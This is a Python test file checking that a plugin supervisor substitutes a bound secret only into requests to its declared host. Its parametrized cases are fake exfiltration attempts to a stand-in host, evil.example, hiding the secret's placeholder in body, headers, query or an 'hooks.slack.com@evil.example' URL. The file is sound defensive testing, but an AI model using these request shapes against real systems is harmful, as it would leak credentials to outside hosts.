"""A bound secret reaches its hosts and nobody else, the plugin least of all."""

import json

import pytest

from supervisor.calls.bound_secrets import BoundSecrets, SecretNotForHost
from supervisor.egress import EgressRequest
from supervisor.errors import ModuleRefused
from supervisor.manifest import Manifest, parse_manifest

SECRET = "https://hooks.slack.com/services/T000/B000/seeded"


def manifest(**field: object) -> Manifest:
    raw = {
        "id": "com.example.bound",
        "name": "Bound",
        "version": "1.0.0",
        "description": "Keeps a secret.",
        "events": ["ticket.created"],
        "permissions": {"http": {"allowed_hosts": ["hooks.slack.com", "evil.example"]}},
        "config_schema": {
            "token": {"type": "string", "secret": True, "bind": ["hooks.slack.com"], **field}
        },
    }
    return parse_manifest(json.dumps(raw).encode())


@pytest.fixture
def bound() -> BoundSecrets:
    return BoundSecrets(manifest(), {"token": SECRET})


def placeholder(bound: BoundSecrets) -> str:
    return str(bound.config["token"])


def test_the_guest_gets_a_placeholder(bound: BoundSecrets) -> None:
    assert SECRET not in placeholder(bound)
    assert placeholder(bound) != str(BoundSecrets(manifest(), {"token": SECRET}).config["token"])


def test_the_secret_takes_the_placeholders_place_in_url_headers_and_body(
    bound: BoundSecrets,
) -> None:
    mark = placeholder(bound)
    filled = bound.fill(
        EgressRequest(url=mark, headers={"Authorization": f"Bearer {mark}"}, body=f"[{mark}]")
    )
    assert filled.url == SECRET
    assert filled.headers == {"Authorization": f"Bearer {SECRET}"}
    assert filled.body == f"[{SECRET}]"


@pytest.mark.parametrize(
    "request_to_elsewhere",
    [
        lambda mark: EgressRequest(url="https://evil.example/", body=mark),
        lambda mark: EgressRequest(url="https://evil.example/", headers={"X-Key": mark}),
        lambda mark: EgressRequest(url="https://evil.example/", headers={mark: "x"}),
        lambda mark: EgressRequest(url=f"https://evil.example/?q={mark}"),
        lambda mark: EgressRequest(url=f"https://hooks.slack.com@evil.example/{mark}"),
        lambda mark: EgressRequest(url=f"not a url {mark}"),
    ],
)
def test_a_request_to_another_host_is_refused(bound: BoundSecrets, request_to_elsewhere) -> None:
    with pytest.raises(SecretNotForHost) as refused:
        bound.fill(request_to_elsewhere(placeholder(bound)))
    assert SECRET not in str(refused.value)


def test_a_request_without_a_placeholder_passes_unchanged(bound: BoundSecrets) -> None:
    request = EgressRequest(url="https://evil.example/", body="nothing")
    assert bound.fill(request) is request


def test_bind_needs_a_secret() -> None:
    with pytest.raises(ModuleRefused, match=r"config_schema\.token\.bind"):
        manifest(secret=False)


def test_bind_names_declared_hosts_only() -> None:
    with pytest.raises(ModuleRefused, match=r"config_schema\.token\.bind\[0\].*allowed_hosts"):
        manifest(bind=["elsewhere.example"])
